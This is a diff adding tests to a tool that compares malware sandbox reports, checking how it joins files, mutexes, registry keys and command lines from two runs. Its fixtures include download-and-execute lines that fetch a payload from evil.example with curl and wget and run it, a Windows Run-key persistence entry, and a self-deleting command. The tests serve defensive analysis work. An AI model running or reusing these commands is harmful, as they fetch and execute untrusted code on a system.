@@ -95,6 +95,18 @@ describe('two runs of a dropper, from a real service', () => {
     expect(c.dropped.find((r) => r.where === 'b')?.b).toMatchObject({ names: ['notes.txt'], paths: ['/tmp/.cache/notes.txt'], type: 'ASCII text' })
   })
 
+  it('joins the files the runs touched by path and by name, and the command lines they ran', () => {
+    const c = compareFacts(a, b)
+    expect(c.files.map((r) => [r.key, r.where])).toEqual([['/tmp/.cache/notes.txt', 'b'], ['/tmp/payload', 'both']])
+    expect(c.fileNames.map((r) => [r.key, r.where, r.changed])).toEqual([['notes.txt', 'b', false], ['payload', 'both', false]])
+    expect(c.fileNames.find((r) => r.key === 'notes.txt')?.b?.paths).toEqual(['/tmp/.cache/notes.txt'])
+    expect(where(c.commands, 'curl -s http://evil.example/payload -o /tmp/payload')).toBe('a')
+    expect(where(c.commands, 'wget -q http://evil.example/payload2 -O /tmp/payload')).toBe('b')
+    expect(where(c.commands, 'sh -c chmod +x /tmp/payload && /tmp/payload')).toBe('both')
+    // A Linux run has neither.
+    expect([c.mutexes, c.registryKeys]).toEqual([[], []])
+  })
+
   it('compares the ELF static facts: hashes and sizes differ, libselinux is only in B', () => {
     const c = compareFacts(a, b)
     for (const f of ['SHA256', 'Size', 'ELF Entry point']) expect(c.staticFacts.find((r) => r.key === f), f).toMatchObject({ where: 'both', changed: true })
@@ -137,6 +149,21 @@ describe('the shared reader of indicators', () => {
     expect(f.domains).toHaveLength(INDICATOR_CAPS.domains)
     expect(f.capped).toEqual([`Domains: the first ${INDICATOR_CAPS.domains.toLocaleString('en-US')} distinct entries are compared (500 more left out)`])
   })
+
+  it('compares the mutexes and registry keys search indexes, with the same caps, and says what it left out', () => {
+    const mutex = Array.from({ length: INDICATOR_CAPS.mutexes + 7 }, (_, i) => `Global\\m${i}`)
+    const regkey_written = Array.from({ length: INDICATOR_CAPS.keys + 3 }, (_, i) => `HKEY_CURRENT_USER\\Software\\k${i}`)
+    const report = { behavior: { summary: { mutex, regkey_written } } }
+    const f = reportFacts(report)
+    const ind = readIndicators(report)
+    expect(f.mutexes.map((m) => m.key)).toEqual(ind.mutexes.values())
+    expect(f.mutexes).toHaveLength(INDICATOR_CAPS.mutexes)
+    expect(f.registryKeys).toHaveLength(INDICATOR_CAPS.keys)
+    expect(f.capped).toEqual([
+      `Mutexes: the first ${INDICATOR_CAPS.mutexes.toLocaleString('en-US')} distinct entries are compared (7 more left out)`,
+      `Registry keys: the first ${INDICATOR_CAPS.keys.toLocaleString('en-US')} distinct entries are compared (3 more left out)`
+    ])
+  })
 })
 
 describe('reports of any origin', () => {
@@ -162,6 +189,40 @@ describe('reports of any origin', () => {
     expect(items('YARA rules')).toEqual(['UPX'])
   })
 
+  it("compares Cuckoo 2.0.7's summary: files (moves' both ends), names at other paths, mutexes, registry keys, command lines", () => {
+    const f = reportFacts(CUCKOO_207)
+    expect(f.files.map((x) => x.key)).toEqual([
+      'C:\\Users\\cuckoo\\AppData\\Roaming\\updater.exe', 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp'
+    ])
+    expect(f.mutexes).toEqual([{ key: 'Global\\updater-singleton' }])
+    expect(f.registryKeys).toEqual([{ key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater' }])
+    expect(f.commands).toEqual([{ key: 'cmd.exe /c ping -n 3 127.0.0.1 & del invoice.exe' }])
+    // The same program written under another user's profile, a second mutex, the Run key only read.
+    const other = reportFacts({
+      behavior: {
+        summary: {
+          file_created: ['C:\\Users\\victim\\AppData\\Roaming\\updater.exe'],
+          mutex: ['Global\\updater-singleton', 'Local\\ZonesCounterMutex'],
+          regkey_opened: ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater'],
+          regkey_read: ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\MachineGuid']
+        }
+      }
+    })
+    const c = compareFacts(f, other)
+    expect(where(c.files, 'C:\\Users\\victim\\AppData\\Roaming\\updater.exe')).toBe('b')
+    expect(where(c.files, 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp')).toBe('a')
+    // One name at other paths: in both, and marked as differing.
+    expect(c.fileNames.find((r) => r.key === 'updater.exe')).toMatchObject({
+      where: 'both', changed: true, a: { paths: ['C:\\Users\\cuckoo\\AppData\\Roaming\\updater.exe'] }, b: { paths: ['C:\\Users\\victim\\AppData\\Roaming\\updater.exe'] }
+    })
+    expect(c.mutexes.map((r) => [r.key, r.where])).toEqual([['Global\\updater-singleton', 'both'], ['Local\\ZonesCounterMutex', 'b']])
+    expect(c.registryKeys.map((r) => [r.key, r.where])).toEqual([
+      ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', 'both'],
+      ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\MachineGuid', 'b']
+    ])
+    expect(c.commands.map((r) => r.where)).toEqual(['a'])
+  })
+
   it('reads an older Aviary report: ttp as {id: name}, hosts as objects, ELF libraries as DT_NEEDED tags, no tree', () => {
     const f = reportFacts({
       info: { score: 1 }, signatures: [{ name: 'x', severity: 2, ttp: { T1105: 'Ingress Tool Transfer' } }],
@@ -181,7 +242,10 @@ describe('reports of any origin', () => {
     const hostile = {
       info: { score: 'ten', machine: 42 }, target: { file: { name: ['x'], size: {} } },
       signatures: [null, 3, { name: 'evil\u202Eexe.txt', severity: 99, ttp: 'T1' }, { ttp: { a: 5 } }],
-      behavior: { processtree: [{ pid: 'x', process_name: 7, children: 'no' }, null, { children: [null, { process_name: 'k' }] }], processes: 'x' },
+      behavior: {
+        processtree: [{ pid: 'x', process_name: 7, children: 'no' }, null, { children: [null, { process_name: 'k' }] }], processes: 'x',
+        summary: { mutex: 'x', regkey_written: [5, null, ['HKCU\\a', 7], {}], file_created: [{}, '', '/tmp/x/'], command_line: [[], 'sh'] }
+      },
       network: { hosts: 'x', domains: [{ domain: 5 }], dns: [{ request: 'A.Example.', answers: 'x' }], http: [{ uri: ['x'] }, { host: 'h', method: 'post', path: '/p', status: {} }], tcp: [null, { dst: 1 }], http_ex: { a: 1 } },
       dropped: [{ sha256: 5 }, { md5: 'ABC' }], static: { pe_sections: 'x', pe_imports: [{ dll: 3, imports: 'x' }], elf: 'x', pdf: [{ javascript: 2, urls: ['http://u'] }, 'x'], office: { macros: [{ filename: 'M.bas', orig_code: 'a\r\nb' }, 'x', { filename: 7 }], vba: ['x', 1], format: true } }, strings: 'abc'
     }
@@ -197,7 +261,12 @@ describe('reports of any origin', () => {
     expect(f.staticSets.find((s) => s.title === 'PDF urls')?.items).toEqual([{ key: 'http://u', detail: '' }])
     expect(f.staticFacts).toContainEqual({ key: 'Office format', value: 'true' })
     expect(f.staticSets.find((s) => s.title === 'Office macro modules')?.items).toEqual([{ key: 'M.bas', detail: '2 lines, 4 characters' }, { key: '7', detail: '0 lines, 0 characters' }])
-    for (const v of [null, undefined, 5, 'x', [], [[]], { behavior: { processtree: [[]] } }]) expect(() => reportFacts(v)).not.toThrow()
+    expect(f.mutexes).toEqual([])
+    expect(f.registryKeys).toEqual([{ key: 'HKCU\\a' }])
+    expect(f.files).toEqual([{ key: '/tmp/x/' }])
+    expect(f.fileNames).toEqual([{ key: 'x', paths: ['/tmp/x/'] }])
+    expect(f.commands).toEqual([{ key: 'sh' }])
+    for (const v of [null, undefined, 5, 'x', [], [[]], { behavior: { processtree: [[]] } }, { behavior: { summary: [] } }]) expect(() => reportFacts(v)).not.toThrow()
   })
 })
 
